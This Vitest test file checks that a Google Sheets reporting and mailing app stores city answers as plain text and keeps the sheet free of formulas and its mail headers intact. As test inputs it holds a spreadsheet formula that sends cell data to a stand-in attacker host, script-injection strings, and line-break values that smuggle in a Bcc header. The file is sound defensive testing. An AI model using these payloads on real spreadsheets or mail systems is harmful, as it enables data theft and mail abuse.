import { beforeEach, expect, test } from 'vitest';
import { answers, filers } from '../../sheets-schema/tabs/logs.ts';
import { matrix } from '../../sheets-schema/tabs/projections.ts';
import { settingsTab } from '../../sheets-schema/tabs/settings.ts';
import { templates } from '../../sheets-schema/tabs/templates.ts';
import { units } from '../../sheets-schema/tabs/units.ts';
import { askTheCities, mailboxOf, useOffice } from '../support/office.ts';
import { fullReport } from '../support/reports.ts';

const office = useOffice();

beforeEach(async () => {
  await askTheCities(office, { cities: ['HPG'] });
  await office.sync();
});

const LONG = 'Đã rà soát đề án số 1 của thành phố.\n'.repeat(1_700).slice(0, 60_000);

const texts: Readonly<Record<string, string>> = {
  'a placeholder': 'Đang cập nhật',
  'a dash': '-',
  'a formula that calls out': '=IMPORTXML("https://evil.example/?q="&A1;"//a")',
  'a formula behind a sign': '+84 24 0000 0000',
  'an apostrophe': "'=1+1",
  'a number with zeros': '007',
  'a date': '1/2/2025',
  HTML: '<script>alert(1)</script><img src=x onerror=alert(1)> & "ngoặc"',
  '60,000 characters': LONG,
  'decomposed Unicode': 'Thành phố đã ban hành kế hoạch'.normalize('NFD'),
  'signs beyond the first plane': '𠄩 🏙️ '.repeat(30),
  'lines of its own': 'Dòng một\r\nDòng hai\n\nDòng bốn\tcột',
};

test('whatever is answered arrives whole, as text', async () => {
  for (const text of Object.values(texts)) await office.file('HPG', { ...fullReport('HPG'), '1.4': text });
  expect(await office.sync()).toMatchObject({ recorded: Object.keys(texts).length, failed: 0 });
  const parts = (await office.rowsOf(answers)).filter((row) => row.question === '1.4');
  const versions = [...Map.groupBy(parts, ({ version }) => version).values()];
  const stored = versions.map((rows) => rows.map(({ text }) => text ?? '').join(''));
  expect(Object.fromEntries(Object.keys(texts).map((what, at) => [what, stored[at]]))).toEqual(texts);
  expect(await formulasIn(answers.sheetId, matrix.sheetId)).toEqual([]);
  expect(await office.errors()).toEqual([]);
  expect(await office.sync()).toMatchObject({ googleCalls: 2, sent: 0 });
});

/** The formulas in some tabs: there should be none. */
async function formulasIn(...sheetIds: readonly number[]): Promise<readonly unknown[]> {
  const { data } = await office.sheet.spreadsheets.get({
    spreadsheetId: office.workspace.provisioned.spreadsheetId,
    fields: 'sheets(properties.sheetId,data.rowData.values.userEnteredValue.formulaValue)',
  });
  const tabs = (data.sheets ?? []).filter(({ properties }) => sheetIds.includes(properties?.sheetId ?? -1));
  const rows = tabs.flatMap((tab) => tab.data ?? []).flatMap(({ rowData }) => rowData ?? []);
  return rows.flatMap(({ values }) => values ?? []).flatMap((cell) => cell.userEnteredValue?.formulaValue ?? []);
}

test('an answer that is left empty is no answer', async () => {
  await office.file('HPG', { ...fullReport('HPG'), '1.4': '' });
  await office.sync();
  expect((await office.rowsOf(answers)).map(({ question }) => question)).not.toContain('1.4');
  const item = (await office.rowsOf(matrix)).find((row) => row.item === '1.4');
  expect(item?.verdict).toBe('Thiếu');
});

test('a name with line separators and a second header breaks neither the sheet nor a mail', async () => {
  const name = 'Trần Thị Mẫu\u2028Bcc: ai-do@evil.example\u0085';
  await office.file('HPG', fullReport('HPG'), { filer: name });
  expect(await office.sync()).toMatchObject({ recorded: 1, sent: 1 });
  expect((await office.rowsOf(filers)).at(-1)?.name).toMatch(/^Trần Thị Mẫu Bcc: ai-do@evil.example/);
  await expectPlainHeaders();
});

test('line breaks in what coordinators type stay out of the headers', async () => {
  const trap = '\r\nBcc: ai-do@evil.example\r\n\r\nNội dung lạ';
  await office.type(units, 'HPG', 'Tên gọi', `Hải${trap}`);
  await office.type(templates, 'Nhắc việc', 'Tiêu đề', `[Nhắc việc] {{ten_don_vi}}${trap}`);
  await office.type(settingsTab, 'Hộp thư nhóm', 'Giá trị', `dothithongminh@boxaydung.example${trap}`);
  await office.syncAt('2025-10-29 08:30');
  expect(await office.mailsTo('HPG')).toHaveLength(2);
  await expectPlainHeaders();
});

async function expectPlainHeaders(): Promise<void> {
  for (const { headers, envelope, subject } of await office.mails()) {
    expect(Object.keys(headers)).not.toContain('bcc');
    expect(envelope.to.join()).not.toContain('evil');
    expect(subject).not.toMatch(/[\r\n]/);
  }
  expect((await office.mailsTo('HPG')).at(-1)?.envelope.to).toEqual([mailboxOf('HPG')]);
}
